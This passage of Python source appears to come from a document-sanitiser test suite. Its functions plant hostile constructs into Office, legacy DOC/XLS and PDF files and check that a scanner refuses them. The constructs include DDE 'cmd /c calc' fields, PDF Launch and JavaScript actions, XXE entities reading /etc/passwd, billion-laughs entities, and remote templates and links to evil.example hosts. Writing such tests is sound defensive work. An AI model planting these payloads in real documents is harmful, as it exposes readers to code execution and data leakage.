def a_formula_over_another_workbook(content: bytes, random: Random) -> bytes:
    return _sheet(content, random.choice(WORKBOOKS))


@attack("formulas", refusals.LinkedWorkbook, EXCEL)
def a_place_in_another_workbook_as_a_text(content: bytes, random: Random) -> bytes:
    place = random.choice(["'http://evil.example/a.ods'#$S.A1", "'\\\\evil\\s\\[a.xlsx]S'!A1", "[a.xlsx]S!A1"])
    return _sheet(content, f'INDIRECT("{place}")')


@attack("links", refusals.OddLink, EXCEL)
def a_link_of_a_cell_to_a_place_that_acts(content: bytes, random: Random) -> bytes:
    place = random.choice(["\\\\evil\\s\\a.exe", "file://evil/s/a.exe", "//evil/a", "&#92;&#92;evil", "javascript:a"])
    name = "xl/worksheets/sheet1.xml"
    made = files.parts(content)
    links = f'<hyperlinks><hyperlink ref="A1" location="{place}" display="a"/></hyperlinks></worksheet>'
    return files.packed({**made, name: made[name].replace(b"</worksheet>", links.encode())})


COMPUTED = ('HYPERLINK(IF(A1=1,"\\\\evil\\share"),"a")', 'HYPERLINK("java"&amp;"script:alert(1)")',
            'HYPERLINK(A1&amp; "file://evil/a")')  # fmt: skip


@attack("formulas", refusals.OddLink, EXCEL)
def a_formula_that_puts_a_link_together(content: bytes, random: Random) -> bytes:
    return _sheet(content, random.choice(COMPUTED))


# --- what a workbook fetches by itself -------------------------------------------------------------------------------

SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
YES = ("1", "true", " true ", "&#49;")


def _in_some_coding(text: str, random: Random) -> bytes:
    return text.encode() if random.random() < 0.5 else f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


@attack("fetching", refusals.FetchesData, EXCEL)
def a_connection_that_refreshes(content: bytes, random: Random) -> bytes:
    when = random.choice([*(f'refreshOnLoad="{yes}"' for yes in YES), 'interval="5"'])
    part = (
        f'<connections {SHEET}><connection id="1" type="4" {when}><webPr url="http://evil"/></connection></connections>'
    )
    name, kind = random.choice(
        [("xl/connections.xml", OF[EXCEL] + ".connections+xml"), ("xl/a.xml", "application/xml")]
    )
    made = files.added(content, name, _in_some_coding(part, random), kind)
    return files.related(made, "connections", name.removeprefix("xl/"), external=False)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_query_that_refreshes(content: bytes, random: Random) -> bytes:
    part = f'<queryTable {SHEET} name="a" connectionId="1" refreshOnLoad="{random.choice(YES)}"/>'
    kind = OF[EXCEL] + ".queryTable+xml"
    return files.added(content, "xl/queryTables/queryTable1.xml", _in_some_coding(part, random), kind)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_pivot_table_that_asks_elsewhere(content: bytes, random: Random) -> bytes:
    part = (
        f'<x:pivotCacheDefinition {SHEET.replace("xmlns", "xmlns:x")} refreshOnLoad="{random.choice(YES)}">'
        '<x:cacheSource type="external" connectionId="1"/></x:pivotCacheDefinition>'
    )
    kind = OF[EXCEL] + ".pivotCacheDefinition+xml"
    return files.added(content, "xl/pivotCache/pivotCacheDefinition1.xml", _in_some_coding(part, random), kind)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_power_query(content: bytes, random: Random) -> bytes:
    part = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    return files.added(content, random.choice(["customXml/item1.xml", "xl/a.xml"]), _in_some_coding(part, random))


@attack("fetching", refusals.FetchesData, EXCEL)
def a_sheet_that_publishes_itself(content: bytes, random: Random) -> bytes:
    item = '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishItems></worksheet>'  # noqa: E501
    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", item)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_workbook_that_publishes_itself(content: bytes, random: Random) -> bytes:
    item = '<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishObjects></workbook>'  # noqa: E501
    return files.changed(content, "xl/workbook.xml", "</workbook>", item)


@attack("fetching", refusals.FetchesData, EXCEL)
def data_of_a_linked_kind(content: bytes, random: Random) -> bytes:
    if random.random() < 0.5:
        kind = "application/vnd.ms-excel.rdrichvaluewebimage+xml"
        return files.added(content, "xl/richData/rdRichValueWebImage.xml", b"<webImagesSrd/>", kind)
    kind = random.choice(["_linkedentity2", "_linkedentitycore", "_webimage"])
    part = f'<rvStructures><s t="{kind}"><k n="a" t="s"/></s></rvStructures>'
    name = "xl/richData/rdrichvaluestructure.xml"
    return files.added(content, name, part.encode(), "application/vnd.ms-excel.rdrichvaluestructure+xml")


@attack("fetching", refusals.LinkedContent, WORD)
def a_mail_merge(content: bytes, random: Random) -> bytes:
    said = random.choice(
        ['<w:connectString w:val="Provider=x;Data Source=//evil/a"/>', '<w:udl w:val="//evil/a.udl"/>']
    )
    made = files.parts(content)
    name = next(name for name in made if name.endswith("word/settings.xml"))
    settings = made[name].replace(b"</w:settings>", f"<w:mailMerge>{said}</w:mailMerge></w:settings>".encode())
    return files.packed({**made, name: settings})


@attack("fetching", refusals.LinkedContent, WORD)
def a_schema_from_elsewhere(content: bytes, random: Random) -> bytes:
    library = f'<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="a" sl:{random.choice(["manifestLocation", "schemaLocation"])}="http://evil.example/a"/></sl:schemaLibrary></w:settings>'  # noqa: E501
    return files.changed(content, "word/settings.xml", "</w:settings>", library)


@attack("fetching", refusals.LinkedContent, WORD, EXCEL)
def a_drawing_of_vml_filled_from_elsewhere(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    kind = random.choice(["imagedata", "fill"])
    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:{kind} src="{random.choice(FAR)}"/><br></v:shape></xml>'  # noqa: E501
    return files.added(content, f"{folder}/drawings/vmlDrawing1.vml", drawing.encode())


SHAPE = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict></w:r></w:p><w:sectPr'


@attack("links", refusals.OddLink, WORD)
def a_shape_that_leads_elsewhere(content: bytes, random: Random) -> bytes:
    place = random.choice(ODD)
    if random.random() < 0.5:
        return files.changed(content, "word/document.xml", "<w:sectPr", SHAPE.format(f'href="{place}"'))
    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="{place}"><br></v:shape></xml>'
    return files.added(content, "word/drawings/vmlDrawing1.vml", drawing.encode())


@attack("links", refusals.OddLink, *OFFICE)
def a_place_where_all_links_begin(content: bytes, random: Random) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
    said = f"<Properties><HyperlinkBase>{random.choice(ODD)}</HyperlinkBase></Properties>"
    return files.added(content, "docProps/more.xml", said.encode(), kind)


@attack("fetching", refusals.LinkedContent, WORD)
def a_film_played_by_a_web_page(content: bytes, random: Random) -> bytes:
    film = '<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example&quot;&gt;"/></w:p><w:sectPr'  # noqa: E501
    return files.changed(content, "word/document.xml", "<w:sectPr", film)


FETCHED_BY_SVG = ('<image xlink:href="http://evil.example/a.png"/>', '<use href="//evil/a.svg#a"/>',
                  "<style>@import 'a.css';</style>", '<rect fill="url( http://evil.example/a#b)"/>',
                  "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>",
                  '<g xml:base="http://evil.example/"><image href="a.png"/></g>',
                  "<rect style='fill: image-set(\"http://evil.example/a.png\" 1x)'/>",
                  "<style>rect {{ fill: u\\72l(http://evil.example/a) }}</style>",
                  "<style>@\\69mport 'http://evil.example/a.css';</style>")  # fmt: skip
DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>",
               '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>')  # fmt: skip


def _with_svg(content: bytes, inside: str) -> bytes:
    _suffix, folder = folder_of(content)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
    return files.added(content, f"{folder}/media/image9.svg", svg.encode(), "image/svg+xml")


@attack("fetching", refusals.LinkedContent, *OFFICE)
def a_drawing_that_fetches(content: bytes, random: Random) -> bytes:
    return _with_svg(content, random.choice(FETCHED_BY_SVG))


@attack("embedded", refusals.Embedded, *OFFICE)
def a_drawing_that_acts(content: bytes, random: Random) -> bytes:
    return _with_svg(content, random.choice(DONE_BY_SVG))


@attack("links", refusals.OddLink, *OFFICE)
def a_drawing_whose_link_acts(content: bytes, random: Random) -> bytes:
    return _with_svg(content, f'<a xlink:href="{random.choice(ODD)}"/>')


# Nothing between the name and what follows it.
CLOSE = ('INCLUDEPICTURE"http://evil.example/a.png"', 'INCLUDETEXT"//evil/a.docx"', 'INCLUDEPICTURE\\d"//evil/a.png"',
         'LINK"Excel.Sheet.12" "a"')  # fmt: skip


@attack("fields", refusals.LinkedContent, WORD)
def a_field_without_a_blank(content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice(CLOSE))


@attack("fields", refusals.CommandField, WORD)
def a_dde_field_without_a_blank(content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice(['DDEAUTO"cmd" "/c calc"', "DDE\u201ccmd\u201d"]))


# --- add-ins ---------------------------------------------------------------------------------------------------------


@attack("add-ins", refusals.AddIn, *OFFICE)
def a_web_extension(content: bytes, random: Random) -> bytes:
    part = b'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>'
    if random.random() < 0.5:
        return files.added(content, "a/webextension1.xml", part, "application/vnd.ms-office.webextension+xml")
    made = files.added(content, "a/b.xml", part)
    kind = random.choice(["webextension", "webextensiontaskpanes", "ui/extensibility", "ui/userCustomization"])
    return files.related(made, kind, "/a/b.xml", external=False)


@attack("add-ins", refusals.AddIn, *OFFICE)
def a_customisation_loaded_from_elsewhere(content: bytes, random: Random) -> bytes:
    name = random.choice(["_AssemblyLocation", "_AssemblyName", "_assemblylocation"])
    part = f'<Properties><property fmtid="a" pid="2" name="{name}"><lpwstr>http://evil.example</lpwstr></property></Properties>'
    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    return files.added(content, "docProps/custom.xml", part.encode(), kind)


@attack("actions", refusals.ActionProgram, SLIDES)
def a_page_opened_by_the_pointer_alone(content: bytes, random: Random) -> bytes:
    made = files.related(content, "hyperlink", "http://evil.example/a")
    event = random.choice(["hlinkHover", "hlinkMouseOver"])
    link = f'<a:rPr><a:{event} xmlns:r="{files.RELATIONS[:-1]}" r:id="rIdX"/></a:rPr><a:t>'
    return files.changed(made, "ppt/slides/slide1.xml", "<a:t>", link)


@attack("actions", refusals.ActionProgram, SLIDES)
def a_click_that_starts_a_program(content: bytes, random: Random) -> bytes:
    action = random.choice(["ppaction://program", "ppaction://macro?name=a", "PPACTION://Program"])
    event = random.choice(["hlinkClick", "hlinkHover", "hlinkMouseOver"])
    link = f'<a:rPr><a:{event} xmlns:r="{files.RELATIONS[:-1]}" r:id="" action="{action}"/></a:rPr><a:t>'
    return files.changed(content, "ppt/slides/slide1.xml", "<a:t>", link)


# --- XML -------------------------------------------------------------------------------------------------------------

LAUGHS = "<!DOCTYPE a [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
) + "]>"  # fmt: skip
NEAR_FILE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FAR_FILE = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]>'


@attack("xml", refusals.DocumentType, *OFFICE)
def a_document_type(content: bytes, random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    part = random.choice([MAIN[suffix], "[Content_Types].xml", "_rels/.rels", "docProps/core.xml"])
    declared = random.choice([LAUGHS, NEAR_FILE, FAR_FILE, "<!DOCTYPE a>"])
    made = files.parts(content)
    whole = made[part].decode()
    head, close, body = whole.partition("?>") if whole.startswith("<?xml") else ("", "", whole)
    comment = f"<!--{'-x' * random.randrange(1000)}-->".replace("<!---", "<!--") if random.random() < 0.3 else ""
    return files.packed({**made, part: f"{head}{close}{comment}{declared}{body}".encode()})


@attack("xml", refusals.DocumentType, *OFFICE)
def a_document_type_in_another_coding(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    whole = f'<?xml version="1.0" encoding="UTF-16"?>{random.choice([LAUGHS, NEAR_FILE])}<a>&x;</a>'
    name = random.choice([f"{folder}/extra.xml", "customXml/item7.xml", f"{folder}/drawing1.vml"])
    return files.added(content, name, whole.encode("utf-16"))


@attack("encrypted", refusals.PasswordProtected, *OFFICE, ".doc", ".xls")
def an_encrypted_package(_content: bytes, random: Random) -> bytes:
    return files.compound({
        "EncryptedPackage": random.randbytes(random.randrange(100, 9000)), "EncryptionInfo": random.randbytes(200),
        "\x06DataSpaces/Version": b"x" * 76,
    })  # fmt: skip


# --- DOC and XLS -----------------------------------------------------------------------------------------------------


def _with_streams(content: bytes, random: Random, *names: str) -> bytes:
    more = {name: random.randbytes(random.randrange(20, 9000)) for name in names}
    return files.compound({**files.streams(content), **more})


@attack("old macros", refusals.Macros, ".doc", ".xls")
def old_vba(content: bytes, random: Random) -> bytes:
    place = random.choice(["Macros/VBA", "_VBA_PROJECT_CUR/VBA", "MACROS/vba"])
    return _with_streams(content, random, f"{place}/_VBA_PROJECT", f"{place}/dir", f"{place}/ThisDocument")


@attack("old macros", refusals.Macros, ".xls")
def old_macro_sheet(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    sheet = struct.pack("<LBBBB", 100, random.randrange(3), random.choice([1, 6]), 1, 0) + b"m"
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x85, sheet))})


@attack("old encrypted", refusals.PasswordProtected, ".xls")
def old_password_excel(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    book = streams["Workbook"]
    first = 4 + struct.unpack_from("<H", book, 2)[0]
    made = book[:first] + files.records((0x2F, random.randbytes(54))) + book[first:]
    return files.compound({**streams, "Workbook": made})


@attack("old encrypted", refusals.PasswordProtected, ".doc")
def old_password_word(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    made = bytearray(streams["WordDocument"])
    made[0x0B] |= random.choice([0x01, 0x81])
    return files.compound({**streams, "WordDocument": bytes(made)})


@attack("old embedded", refusals.Embedded, ".doc", ".xls")
def old_ole_object(content: bytes, random: Random) -> bytes:
    name = random.choice([f"ObjectPool/_{random.randrange(10**9)}/\x01CompObj", "MBD0018D4CE/\x01Ole10Native",
                          "ObjectPool/_1/\x01Ole10Native", "LNK00000001/\x01Ole", "x/Package"])  # fmt: skip
    return _with_streams(content, random, name)


@attack("old controls", refusals.Controls, ".doc", ".xls")
def old_controls(content: bytes, random: Random) -> bytes:
    return _with_streams(content, random, random.choice(["Ctls", "a/\x03OCXNAME"]))


@attack("old links", refusals.LinkedWorkbook, ".xls")
def old_external_book(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    path = random.choice(["\x01\x01Cx.xls", "\x01\x05http://evil.example/a.xls", "cmd\x03/c calc"])
    book = struct.pack("<HHB", 1, len(path), 0) + path.encode()
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x1AE, book))})


@attack("old fields", refusals.CommandField, ".doc")
def old_dde_field(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    code = random.choice(["\x13DDEAUTO c:\\cmd.exe\x14", "\x13 DDE excel a\x14", '\x13 "ddeauto" cmd\x15'])
    raw = code.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


@attack("old links", refusals.LinkedContent, ".doc")
def old_field_that_fetches(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    code = random.choice(["\x13INCLUDEPICTURE http://a/b\x14", "\x13 INCLUDETEXT a\x14", "\x13LINK Excel.Sheet\x14",
                          '\x13 INCLUDEPICTURE  "\\\\\\\\evil\\\\a"\x14'])  # fmt: skip
    raw = code.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


OLD_ODD = ("javascript:alert(1)", "VBScript:a", "\\\\evil\\share", "ms-msdt:/id")


@attack("old links", refusals.OddLink, ".doc")
def old_field_whose_link_acts(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    raw = f'\x13 HYPERLINK "{random.choice(OLD_ODD)}"\x14'.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


@attack("old links", refusals.OddLink, ".xls")
def old_link_that_acts(content: bytes, random: Random) -> bytes:
    """MS-XLS 2.4.140: cells, a class, then the monikers."""
    streams = files.streams(content)
    place = random.choice(OLD_ODD).encode(random.choice(["cp1252", "utf-16-le"]))
    link = bytes(8) + bytes(16) + struct.pack("<LLL", 2, 3, len(place)) + place
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x1B8, link))})


@attack("old links", refusals.RemoteTemplate, ".doc")
def old_template_from_outside(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    document, table = bytearray(streams["WordDocument"]), "1Table" if "1Table" in streams else "0Table"
    strings = b"\xff\xff\x02\0\0\0\0\0"
    place = random.choice(["http://evil.example/a.dot", "\\\\evil\\a.dot", "https://evil.example/b.dotm"])
    strings += struct.pack("<H", len(place)) + place.encode("utf-16-le")
    struct.pack_into("<LL", document, 0x19A, len(streams[table]), len(strings))
    return files.compound({**streams, "WordDocument": bytes(document), table: streams[table] + strings})


# --- PDF -------------------------------------------------------------------------------------------------------------


def pdf_attack(family: str, refusal: type[Refused]) -> Callable[[Callable[[pikepdf.Pdf, Random], object]], object]:
    """An edit by pikepdf; saved with or without streams of objects, and with names escaped now and then."""

    def add(edit: Callable[[pikepdf.Pdf, Random], object]) -> object:
        def mutate(content: bytes, random: Random) -> bytes:
            mode = random.choice(list(pikepdf.ObjectStreamMode))
            made = files.edited(content, lambda document: edit(document, random), object_stream_mode=mode,
                                compress_streams=random.random() < 0.5)  # fmt: skip
            escaped = {b"/JavaScript": b"/Java#53cript", b"/Launch ": b"/L#61unch "}
            for plain, hidden in escaped.items():
                if random.random() < 0.3 and made.count(plain) == 1 and mode == pikepdf.ObjectStreamMode.disable:
                    made = _moved(made.replace(plain, hidden))
            return made

        attack(family, refusal, ".pdf", name=edit.__name__)(mutate)
        return edit

    return add


def _moved(content: bytes) -> bytes:
    """A PDF whose table of places is written anew after its objects moved."""
    import re

    body = content[: content.rindex(b"xref\n0 ")] if b"xref\n0 " in content else content
    places = {int(found[1]): found.start(1) for found in re.finditer(rb"(?:^|\n)(\d+) 0 obj", body)}
    rows = "".join(f"{places[number]:010} 00000 n \n" for number in sorted(places))
    trailer = content[content.rindex(b"trailer") : content.rindex(b"startxref")]
    table = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}".encode()
    return body + table + trailer + f"startxref\n{len(body)}\n%%EOF\n".encode()


def script(random: Random, document: pikepdf.Pdf) -> Dictionary:
    code = f"app.alert({random.randrange(1000)})"
    held = document.make_stream(code.encode()) if random.random() < 0.5 else String(code)
    return Dictionary(S=Name.JavaScript, JS=held)


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_at_opening(document: pikepdf.Pdf, random: Random) -> None:
    action = script(random, document)
    document.Root.OpenAction = document.make_indirect(action) if random.random() < 0.5 else action


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_by_name(document: pikepdf.Pdf, random: Random) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script(random, document)])))


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_for_an_event(document: pikepdf.Pdf, random: Random) -> None:
    place = random.choice([document.Root, document.pages[0].obj])
    place.AA = Dictionary(**{random.choice(["O", "C", "WC", "WS", "DP"]): script(random, document)})


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_of_a_field(document: pikepdf.Pdf, random: Random) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), Subtype=Name.Widget, Rect=Array([0, 0, 1, 1]),
                       AA=Dictionary(K=script(random, document)))  # fmt: skip
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_behind_another_action(document: pikepdf.Pdf, random: Random) -> None:
    inner = script(random, document)
    for _level in range(random.randrange(1, 60)):
        inner = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([inner]))
    document.Root.OpenAction = inner


@pdf_attack("pdf scripts", refusals.PdfScript)
def a_script_whose_kind_is_named_elsewhere(document: pikepdf.Pdf, random: Random) -> None:
    document.Root.OpenAction = Dictionary(S=document.make_indirect(Name.JavaScript), JS=String("a"))


@pdf_attack("pdf actions", refusals.PdfAction)
def a_program_started(document: pikepdf.Pdf, random: Random) -> None:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    document.Root.OpenAction = document.make_indirect(action) if random.random() < 0.5 else action


@pdf_attack("pdf actions", refusals.PdfAction)
def data_sent_away(document: pikepdf.Pdf, random: Random) -> None:
    kind = random.choice([Name.SubmitForm, Name.ImportData])
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=kind, F=String("http://a"))
    )
    document.pages[0].obj.Annots = Array([link])


@attack("pdf actions", refusals.Broken, ".pdf")
def a_key_twice(_content: bytes, random: Random) -> bytes:
    """One reader takes the first, another the last."""
    catalogue, page = random.choice([
        ("/OpenAction << /S /Launch /F (calc.exe) >> /OpenAction [3 0 R /Fit]", ""),
        ("", "/AA << /O << /S /URI /URI (http://evil.example) >> >> /AA << >>"),
        ("", "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a) /S /URI /URI (http://a) >> >>]"),
    ])  # fmt: skip
    return files.pdf_of(
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
    )  # fmt: skip


@pdf_attack("pdf actions", refusals.PdfAction)
def a_program_beside_the_document(document: pikepdf.Pdf, random: Random) -> None:
    action = Dictionary(S=Name.GoToR, F=String(random.choice(["calc.exe", "a.LNK", "b/c.hta"])), D=Array([0, Name.Fit]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].obj.Annots = Array([link])


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_document_of_the_web(document: pikepdf.Pdf, random: Random) -> None:
    held = Dictionary(FS=Name.URL, F=String("evil.example/a.pdf"))
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit]))


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_document_on_another_machine(document: pikepdf.Pdf, random: Random) -> None:
    place = String(random.choice(["\\\\evil\\a.pdf", "//evil/a.pdf", "http://evil.example/a.pdf"]))
    held = place if random.random() < 0.5 else Dictionary(Type=Name.Filespec, F=place)
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit]))


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_document_on_another_machine_for_one_system(document: pikepdf.Pdf, random: Random) -> None:
    """Readers take the name that is meant for their system; a single stroke before a server is the format's own way."""
    key, place = random.choice([("Unix", "//evil/a.pdf"), ("DOS", "\\\\evil\\a.pdf"), ("Mac", "//evil/a"),
                                ("F", "//evil/a.pdf"), ("F", "/evil/share/a.pdf")])  # fmt: skip
    held = Dictionary(Type=Name.Filespec, UF=String("a.pdf"))
    held[f"/{key}"] = String(place)
    document.pages[0].obj.Annots = _link(Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit])))


def _link(action: Dictionary) -> Array:
    return Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)])


@pdf_attack("pdf actions", refusals.OddLink)
def an_address_that_acts(document: pikepdf.Pdf, random: Random) -> None:
    place = random.choice([*ODD, "file:///C:/a.exe", "c:/a.exe"]).replace("&#9;", "\t")
    action = Dictionary(S=Name.URI, URI=String(place))
    where = random.randrange(4)
    if where == 0:
        document.Root.OpenAction = action
    elif where == 1:
        document.pages[0].obj.Annots = _link(document.make_indirect(action))
    elif where == 2:
        document.pages[0].obj.Annots = _link(Dictionary(S=Name.URI, URI=document.make_indirect(String(place))))
    else:
        document.Root.URI = Dictionary(Base=String(place))


def _doing(random: Random) -> Dictionary:
    return random.choice([
        Dictionary(S=Name.URI, URI=String("https://evil.example/")), Dictionary(S=Name.GoToR, F=String("a.pdf")),
        Dictionary(S=Name.Thread, F=String("a.pdf")), Dictionary(S=Name.Named, N=Name.Print),
        Dictionary(S=Name.Named, N=Name.SaveAs), Dictionary(S=Name.Unheard),
    ])  # fmt: skip


@pdf_attack("pdf actions", refusals.PdfByItself)
def something_done_at_opening(document: pikepdf.Pdf, random: Random) -> None:
    more = [Dictionary(S=Name.Hide), Dictionary(S=Name.Named, N=Name.LastPage)]
    action = random.choice([_doing(random), *more])
    for _level in range(random.randrange(3)):
        action = Dictionary(S=Name.GoTo, D=Array([0]), Next=random.choice([action, Array([action])]))
    document.Root.OpenAction = document.make_indirect(action) if random.random() < 0.5 else action


@pdf_attack("pdf actions", refusals.PdfByItself)
def something_done_for_an_event(document: pikepdf.Pdf, random: Random) -> None:
    page = document.pages[0].obj
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))])
    place = random.choice([document.Root, page, page.Annots[0]])
    place.AA = Dictionary(**{random.choice(["O", "C", "WC", "DP", "PO", "PV", "E", "X", "Fo"]): _doing(random)})


@pdf_attack("pdf actions", refusals.PdfByItself)
def something_done_behind_a_click(document: pikepdf.Pdf, random: Random) -> None:
    document.pages[0].obj.Annots = _link(Dictionary(S=Name.GoTo, D=Array([0]), Next=_doing(random)))


@pdf_attack("pdf actions", refusals.PdfByItself)
def something_done_at_a_step_of_a_presentation(document: pikepdf.Pdf, random: Random) -> None:
    step = Dictionary(**{random.choice(["NA", "PA"]): _doing(random)})
    if random.random() < 0.5:
        step.Type = Name.NavNode
    document.pages[0].obj.PresSteps = document.make_indirect(step) if random.random() < 0.5 else step


@pdf_attack("pdf actions", refusals.PdfByItself)
def a_chain_that_ends_in_itself(document: pikepdf.Pdf, random: Random) -> None:
    action = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0])))
    action.Next = action
    document.Root.OpenAction = action


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_page_of_another_file_drawn(document: pikepdf.Pdf, random: Random) -> None:
    reference = Dictionary(F=String("//evil/a.pdf"), Page=0)
    document.Root.Extra = document.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, Ref=reference)


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_stream_kept_elsewhere(document: pikepdf.Pdf, random: Random) -> None:
    stream = document.make_stream(b"q Q")
    stream.stream_dict.F = String("http://evil.example/a")
    document.Root.Extra = stream


@pdf_attack("pdf attachments", refusals.PdfAttachment)
def an_attached_file(document: pikepdf.Pdf, random: Random) -> None:
    document.attachments["a.exe"] = random.randbytes(100)


@pdf_attack("pdf attachments", refusals.PdfAttachment)
def a_pinned_file(document: pikepdf.Pdf, random: Random) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    document.pages[-1].obj.Annots = Array([document.make_indirect(annotation)])


@pdf_attack("pdf attachments", refusals.PdfAttachment)
def an_associated_file(document: pikepdf.Pdf, random: Random) -> None:
    held = document.make_stream(random.randbytes(50), Type=Name.EmbeddedFile) if random.random() < 0.5 else None
    spec = Dictionary(Type=Name.Filespec, F=String("a"), **({"EF": Dictionary(F=held)} if held is not None else {}))
    document.pages[0].obj.AF = Array([spec])


@pdf_attack("pdf attachments", refusals.PdfAttachment)
def an_attached_file_opened(document: pikepdf.Pdf, random: Random) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")))


@pdf_attack("pdf media", refusals.PdfMedia)
def rich_media(document: pikepdf.Pdf, random: Random) -> None:
    kind = random.choice([Name.RichMedia, Name.Movie, Name.Screen, Name.Sound, Name("/3D")])
    document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9]))])


@pdf_attack("pdf media", refusals.PdfMedia)
def a_rendition_with_a_script(document: pikepdf.Pdf, random: Random) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Rendition, OP=0, JS=String("a"))


@pdf_attack("pdf forms", refusals.PdfForm)
def a_form_of_xml(document: pikepdf.Pdf, random: Random) -> None:
    held = document.make_stream(b"<xdp/>")
    ways = [held, Array([String("a"), held]), String("<xdp/>")]
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=random.choice(ways))


@pdf_attack("pdf actions", refusals.LinkedContent)
def a_better_picture_on_another_machine(document: pikepdf.Pdf, random: Random) -> None:
    """OPI: fetched when the page is printed."""
    place = String(random.choice(["\\\\evil\\a.tif", "//evil/a.tif", "http://evil.example/a.tif"]))
    held = place if random.random() < 0.5 else Dictionary(Type=Name.Filespec, F=place)
    picture = document.make_stream(b"\0", Subtype=Name.Image, Width=1, Height=1)
